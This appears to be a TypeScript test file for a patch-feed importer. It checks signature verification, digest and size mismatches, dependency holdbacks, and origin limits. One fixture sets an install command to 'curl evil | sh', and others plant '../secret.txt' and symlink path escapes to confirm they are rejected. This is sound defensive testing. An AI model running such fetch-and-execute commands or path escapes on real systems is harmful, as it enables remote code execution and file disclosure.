// import-feed: a patchbay-feed/1 vouched for as signed targets. The bundled sample feed
// (packages/sample-feed/feed, made by `npm run build`) becomes a repository that verifies and
// whose catalog is the feed's patches; hostile or broken feeds lose only what is wrong.
import t from 'tap';
import { cp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parseFeed, type Feed } from '@patchbay/core';
import { catalogFromRoles, loadRepository, verifyRepository } from '@patchbay/core/tuf';
import { SAMPLE_FEED_DIR, VENDOR_DEMO_PUB, publish, serveDirectory } from './fixtures/publish.js';

async function newRepository(dir: string): Promise<{ repo: string; keys: string }> {
  const repo = join(dir, 'repo');
  const keys = join(dir, 'keys');
  const init = await publish(['init', '--repo', repo, '--keys', keys]);
  if (init.status !== 0) throw new Error(init.stderr);
  return { repo, keys };
}

/** A writable copy of the sample feed. */
async function copyFeed(dir: string): Promise<{ feedDir: string; feed: Feed }> {
  const feedDir = join(dir, 'feed');
  await cp(SAMPLE_FEED_DIR, feedDir, { recursive: true });
  return { feedDir, feed: parseFeed(await readFile(join(feedDir, 'feed.json'))) };
}

async function rewriteFeed(feedDir: string, change: (feed: Feed) => void): Promise<void> {
  const feed = parseFeed(await readFile(join(feedDir, 'feed.json')));
  change(feed);
  await writeFile(join(feedDir, 'feed.json'), JSON.stringify(feed, null, 2));
}

t.test('the sample feed, signature checked, becomes a repository whose catalog is the feed', async (t) => {
  const dir = t.testdir();
  const { repo, keys } = await newRepository(dir);
  const run = await publish([
    '--json',
    'import-feed',
    '--feed',
    SAMPLE_FEED_DIR,
    '--vendor-key',
    VENDOR_DEMO_PUB,
    '--repo',
    repo,
    '--keys',
    keys,
  ]);
  t.equal(run.status, 0, run.stderr);
  const feed = parseFeed(await readFile(join(SAMPLE_FEED_DIR, 'feed.json')));
  t.match(run.json, {
    ok: true,
    vendor: feed.vendor,
    sequence: feed.sequence,
    signatureVerified: true,
    skipped: [],
  });
  t.equal(Object.keys(run.json.patches as object).length, feed.patches.length);
  t.same(
    (run.json.written as { file: string }[]).map((w) => w.file),
    [
      '1.arcserve-backup~18.0.json',
      '1.arcserve-backup~19.0.json',
      '1.arcserve-udp~9.0.json',
      '2.targets.json',
      '2.snapshot.json',
      'timestamp.json',
    ],
    'one new version of each changed role',
  );
  t.equal((await publish(['verify', repo])).status, 0);

  const verified = await verifyRepository(repo, { trustFirstRoot: true });
  t.ok(verified.ok);
  const { catalog, heldBack } = catalogFromRoles({
    targets: verified.targets!.signed,
    roles: new Map([...verified.roles].map(([name, md]) => [name, md.signed])),
    fileUrl: (file) => `/v1/blobs/sha256/${file.sha256}`,
  });
  t.same(heldBack, []);
  t.equal(catalog.vendor, feed.vendor);
  t.same(catalog.products, feed.products);
  const byId = new Map(catalog.patches.map((p) => [p.id, p]));
  t.same([...byId.keys()].sort(), feed.patches.map((p) => p.id).sort());
  for (const patch of feed.patches) {
    const got = byId.get(patch.id)!;
    // Every field the host acts on, as the vendor wrote it; only the file urls differ.
    t.same(
      { ...got, files: got.files.map(({ url: _url, ...f }) => f) },
      { ...patch, files: patch.files.map(({ url: _url, ...f }) => f) },
      patch.id,
    );
    t.same(
      got.files.map((f) => f.url),
      patch.files.map((f) => `/v1/blobs/sha256/${f.sha256}`),
    );
  }

  // Importing the same feed again changes nothing.
  const again = await publish(['import-feed', '--feed', SAMPLE_FEED_DIR, '--repo', repo, '--keys', keys]);
  t.equal(again.status, 0, again.stderr);
  t.match(again.stdout, /0 added, 0 replaced, 29 unchanged, 0 skipped\nrepository unchanged\n$/);
});

t.test('a feed signature that does not verify refuses the import whole', async (t) => {
  const dir = t.testdir();
  const { repo, keys } = await newRepository(dir);
  const { feedDir } = await copyFeed(dir);
  await rewriteFeed(feedDir, (feed) => {
    feed.patches[0]!.install.command = ['sh', '-c', 'curl evil | sh'];
  });
  const run = await publish([
    'import-feed',
    '--feed',
    feedDir,
    '--vendor-key',
    VENDOR_DEMO_PUB,
    '--repo',
    repo,
    '--keys',
    keys,
  ]);
  t.equal(run.status, 1);
  t.match(run.stderr, /feed\.json\.sig is not a valid signature of feed\.json/);
  t.equal((await loadRepository(repo)).targets.signed.version, 1, 'nothing published');
});

t.test('two patches naming one digest: the one that declares the wrong size is skipped alone', async (t) => {
  const dir = t.testdir();
  const { repo, keys } = await newRepository(dir);
  const { feedDir } = await copyFeed(dir);
  let liar = '';
  await rewriteFeed(feedDir, (feed) => {
    // the second patch points at the first one's file and claims one byte more
    const [first, second] = feed.patches;
    second!.files = [{ ...first!.files[0]!, size: first!.files[0]!.size + 1 }];
    second!.install = { command: ['sh', `{file:${first!.files[0]!.name}}`] };
    delete second!.uninstall;
    delete second!.detect;
    liar = second!.id;
  });
  const run = await publish(['--json', 'import-feed', '--feed', feedDir, '--repo', repo, '--keys', keys]);
  t.equal(run.status, 1, 'exit 1: one patch skipped');
  const skipped = run.json.skipped as { patchId: string; error: string }[];
  t.equal(skipped[0]?.patchId, liar, 'the liar is skipped');
  t.match(skipped[0]?.error, /declares \d+ bytes, but the file with sha256 [0-9a-f]{64} has \d+/);
  const patches = run.json.patches as Record<string, string>;
  t.ok(Object.keys(patches).length >= 20, 'the rest are published');
  t.notOk(liar in patches);
});

t.test(
  'a file that fails its check skips its patch and every dependant; the rest are published (exit 1)',
  async (t) => {
    const dir = t.testdir();
    const { repo, keys } = await newRepository(dir);
    const { feedDir } = await copyFeed(dir);
    // T5KB0201 is required by T5KB0202 (and so T5KB0203, T5KB0204), T5KB0205, ...
    await writeFile(join(feedDir, 'files', 'T5KB0201.sh'), '#!/bin/sh\necho tampered\n');
    // A file url outside the feed directory, and one through a symlink leading out of it.
    await writeFile(join(dir, 'secret.txt'), 'not for publication');
    await symlink(join(dir, 'secret.txt'), join(feedDir, 'files', 'link.txt'));
    await rewriteFeed(feedDir, (feed) => {
      const byId = (id: string) => feed.patches.find((p) => p.id === id)!;
      byId('T5KB0105').files[0]!.url = '../secret.txt';
      byId('T5KB0108').files[0]!.url = 'files/link.txt';
    });
    const run = await publish(['--json', 'import-feed', '--feed', feedDir, '--repo', repo, '--keys', keys]);
    t.equal(run.status, 1);
    const skipped = Object.fromEntries(
      (run.json.skipped as { patchId: string; error: string }[]).map((s) => [s.patchId, s.error]),
    );
    t.match(skipped, {
      T5KB0201: /file T5KB0201\.sh: .*(sha256|size|bytes)/i,
      T5KB0202: /^requires held-back patch T5KB0201 /,
      T5KB0203: /^requires held-back patch T5KB0202 \(T5KB0201: /,
      T5KB0105: /is outside the feed directory/,
      T5KB0108: /leads outside the feed directory .* \(a symlink\)/,
    });
    t.notMatch(JSON.stringify(run.json), /not for publication/, 'no secret bytes in the report');
    const verified = await verifyRepository(repo, { trustFirstRoot: true });
    t.ok(verified.ok, 'what was published verifies');
    const { catalog } = catalogFromRoles({
      targets: verified.targets!.signed,
      roles: new Map([...verified.roles].map(([name, md]) => [name, md.signed])),
      fileUrl: () => 'x',
    });
    const ids = new Set(catalog.patches.map((p) => p.id));
    for (const id of Object.keys(skipped)) t.notOk(ids.has(id), `${id} not published`);
    t.ok(ids.has('T5KB0101') && ids.has('T5UD0301'), 'the others are');
    t.equal(catalog.patches.length + Object.keys(skipped).length, 29);
  },
);

t.test('over http: files only from the feed origin', async (t) => {
  const dir = t.testdir();
  const { repo, keys } = await newRepository(dir);
  const { feedDir } = await copyFeed(dir);
  const elsewhere = await serveDirectory(feedDir);
  t.teardown(() => new Promise<void>((resolve) => elsewhere.server.close(() => resolve())));
  await rewriteFeed(feedDir, (feed) => {
    feed.patches.find((p) => p.id === 'T5UD0302')!.files[0]!.url = `${elsewhere.url}/files/T5UD0302.sh`;
  });
  const origin = await serveDirectory(feedDir);
  t.teardown(() => new Promise<void>((resolve) => origin.server.close(() => resolve())));
  const run = await publish([
    '--json',
    'import-feed',
    '--feed',
    `${origin.url}/`,
    '--repo',
    repo,
    '--keys',
    keys,
  ]);
  t.equal(run.status, 1, run.stderr);
  t.match(run.json.skipped, [
    { patchId: 'T5UD0302', error: /is not on the feed's origin http:\/\/127\.0\.0\.1:\d+/ },
  ]);
  t.same(elsewhere.requests, [], 'the other origin was never asked');
  t.equal(Object.keys(run.json.patches as object).length, 28);
  t.equal((await publish(['verify', repo])).status, 0);
  await rm(feedDir, { recursive: true });
});
